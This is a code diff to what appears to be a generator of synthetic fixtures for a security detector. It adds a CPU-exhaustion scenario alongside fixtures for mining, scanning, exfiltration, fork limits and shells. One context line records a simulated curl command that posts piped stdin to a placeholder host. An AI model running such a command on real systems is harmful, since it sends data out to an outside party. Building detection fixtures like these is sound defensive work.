@@ -220,6 +220,10 @@ def forks():
     s.add(90, kind="sample", cpu_us=9000, memory_bytes=40 << 20, pids=6).add(30, kind="limit", text="pids", arg0=9, arg1=2).add(1, kind="end", text="pids_limit").save()
 
 
+def cpu():
+    busy(Stream("excessive_cpu_usage.attack-after-its-start"), 70, share=0.99).add(9000, kind="begun").save()
+
+
 PIPES = dict(stdin="pipe", stdin_id=71, stdout="pipe", stdout_id=72, stderr="pipe", stderr_id=72)
 SOCKET = dict(stdin="inet", stdin_id=90, stdout="inet", stdout_id=90, stderr="inet", stderr_id=90)
 
@@ -260,5 +264,5 @@ def shells():
     s.run(1, "/usr/bin/curl", "curl", "-d", "@-", "https://x.example", pid=202, stdin="pipe", stdin_id=71).connect(30, "203.0.113.7", 443, "x.example", pid=202).save()
 
 
-for make in (mining, scanning, exfiltration, forks, shells):
+for make in (mining, scanning, exfiltration, forks, cpu, shells):
     make()
